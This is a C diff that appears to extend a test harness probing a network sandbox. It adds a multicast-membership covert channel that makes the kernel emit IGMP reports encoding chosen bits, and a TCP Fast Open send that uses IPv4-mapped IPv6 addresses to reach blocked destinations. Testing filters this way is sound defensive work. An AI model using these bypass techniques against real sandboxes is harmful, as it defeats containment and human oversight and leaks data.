@@ -5,6 +5,7 @@
 #include <fcntl.h>
 #include <linux/icmpv6.h>
 #include <linux/sched.h>
+#include <net/if.h>
 #include <netinet/udp.h>
 #include <poll.h>
 #include <stdint.h>
@@ -174,6 +175,42 @@ static int shared_port(void)
 	return 0;
 }
 
+/* Joining a group on a device makes the kernel itself send a report, in which the attacker chose 28 bits. */
+static int membership(void)
+{
+	struct if_nameindex *list = if_nameindex();
+	int s = socket(AF_INET, SOCK_DGRAM, 0);
+
+	for (struct if_nameindex *i = list; i && i->if_index; i++) {
+		struct ip_mreqn join = { .imr_ifindex = (int)i->if_index };
+
+		inet_pton(AF_INET, forbidden("GROUP", "239.7.0.1"), &join.imr_multiaddr);
+		setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof(join));
+	}
+	if_freenameindex(list);
+	poll(NULL, 0, 1200); /* the kernel repeats its reports at a random moment of a second: the last one is waited for */
+	return 0;
+}
+
+/* A first packet with data, from a socket of IPv6, to an address of IPv4 and to one of IPv6. */
+static int tfo6(void)
+{
+	struct sockaddr_in6 mapped = bad6;
+
+	memset(&mapped.sin6_addr, 0, 10);
+	memset(mapped.sin6_addr.s6_addr + 10, 0xff, 2);
+	memcpy(mapped.sin6_addr.s6_addr + 12, &bad.sin_addr, 4);
+	for (int i = 0; i < 2; i++) {
+		int s = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
+		struct pollfd p = { s, POLLOUT, 0 };
+
+		sendto(s, payload, sizeof(payload), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)(i ? &mapped : &bad6),
+			sizeof(bad6));
+		poll(&p, 1, 200);
+	}
+	return 0;
+}
+
 /* $CGROUPS: folders of a group that judges nobody, in each hierarchy, with ':' between. Moves itself there, and calls. */
 static int cgroup_procs(void)
 {
@@ -233,7 +270,7 @@ static int clone_into_cgroup(void)
 static const struct attack attacks[] = {
 	{ "routing-message", routing_message }, { "extension-headers", extension_headers }, { "v4-on-v6", v4_on_v6 },
 	{ "unspec", unspec }, { "ping6", ping6 }, { "udp-large", udp_large }, { "udp-segments", udp_segments },
-	{ "free-bind", free_bind }, { "shared-port", shared_port }, { "cgroup-procs", cgroup_procs },
+	{ "free-bind", free_bind }, { "shared-port", shared_port }, { "membership", membership }, { "tfo6", tfo6 }, { "cgroup-procs", cgroup_procs },
 	{ "clone-into-cgroup", clone_into_cgroup }, { NULL, NULL },
 };
 
